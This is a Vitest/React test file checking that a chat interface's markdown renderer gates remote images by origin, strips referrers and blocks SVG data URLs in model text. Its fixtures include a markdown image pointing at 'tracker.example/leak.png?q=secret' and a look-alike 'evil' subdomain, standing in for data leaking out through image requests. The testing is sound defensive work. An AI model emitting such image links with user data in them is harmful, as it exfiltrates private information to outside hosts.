// @vitest-environment jsdom
import { cleanup, fireEvent, render } from '@testing-library/react'
import { afterEach, describe, expect, it } from 'vitest'
import { AgentChat } from '../../../src/components/agent-chat'
import { StreamingMarkdown } from '../../../src/components/markdown/streaming-markdown'
import { MediaPolicyContext } from '../../../src/components/media-policy'
import type { MediaPolicy } from '../../../src/components/media-policy'
import { storeFromEvents } from '../../fixtures/agent-store'
import { end, start, text, textEnd, textStart } from '../../fixtures/script'

afterEach(cleanup)

const PNG = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=='
const markdown = [
  '![allowed](https://cdn.example.com/a.png)',
  '![other](https://tracker.example/leak.png?q=secret)',
  '![sub](https://evil.cdn.example.com/b.png)',
  '![relative](/uploads/c.png)',
  `![inline](${PNG})`,
  '![blob](blob:https://app.example/7d1c)',
  '![svg](data:image/svg+xml;base64,PHN2Zz4=)',
].join('\n\n')

function shown(policy: MediaPolicy | undefined) {
  const { container } = render(
    policy === undefined ? (
      <StreamingMarkdown text={markdown} />
    ) : (
      <MediaPolicyContext.Provider value={policy}>
        <StreamingMarkdown text={markdown} />
      </MediaPolicyContext.Provider>
    ),
  )
  const images = [...container.querySelectorAll('img')]
  return {
    container,
    loaded: images.map((image) => image.getAttribute('alt')),
    referrers: images.map((image) => image.getAttribute('referrerpolicy')),
    gates: [...container.querySelectorAll('.as-md-image-gate')].map((gate) => gate.textContent),
  }
}

describe('markdown images follow the chat’s mediaPolicy, as media blocks do (#13)', () => {
  it('loads nothing remote without a policy: inline bytes of an allowed type render, the rest wait for a click', () => {
    const { loaded, gates, referrers } = shown(undefined)
    expect(loaded).toEqual(['inline', 'blob'])
    expect(referrers).toEqual(['no-referrer', 'no-referrer'])
    expect(gates).toEqual([
      'Load image “allowed” from cdn.example.com',
      'Load image “other” from tracker.example',
      'Load image “sub” from evil.cdn.example.com',
      'Load image “relative”',
    ])
  })

  it('loads images of an allowed origin at once, and only of that exact origin', () => {
    const { loaded, gates, referrers } = shown({ allowOrigins: ['https://cdn.example.com/'] })
    expect(loaded).toEqual(['allowed', 'inline', 'blob'])
    expect(referrers.every((value) => value === 'no-referrer')).toBe(true)
    expect(gates).toHaveLength(3)
    // a different scheme is a different origin
    cleanup()
    expect(shown({ allowOrigins: ['http://cdn.example.com'] }).loaded).toEqual(['inline', 'blob'])
  })

  it('loads a gated image on the reader’s click, without a referrer, and never renders an SVG data URL', () => {
    const { container } = shown(undefined)
    const gate = [...container.querySelectorAll<HTMLButtonElement>('.as-md-image-gate')].find((button) => button.textContent?.includes('other'))!
    fireEvent.click(gate)
    const image = container.querySelector('img[alt="other"]')
    expect(image?.getAttribute('src')).toBe('https://tracker.example/leak.png?q=secret')
    expect(image?.getAttribute('referrerpolicy')).toBe('no-referrer')
    expect(container.querySelector('img[alt="svg"]')).toBeNull()
  })

  it('takes the policy from <AgentChat mediaPolicy> for the model’s text', () => {
    const store = storeFromEvents([
      start(),
      textStart(),
      text('![allowed](https://cdn.example.com/a.png) ![other](https://other.example/b.png)'),
      textEnd(),
      end(),
    ])
    const { container } = render(<AgentChat store={store} mediaPolicy={{ allowOrigins: ['https://cdn.example.com'] }} />)
    expect([...container.querySelectorAll('.as-md-image')].map((image) => image.getAttribute('alt'))).toEqual(['allowed'])
    expect(container.querySelectorAll('.as-md-image-gate')).toHaveLength(1)
  })
})
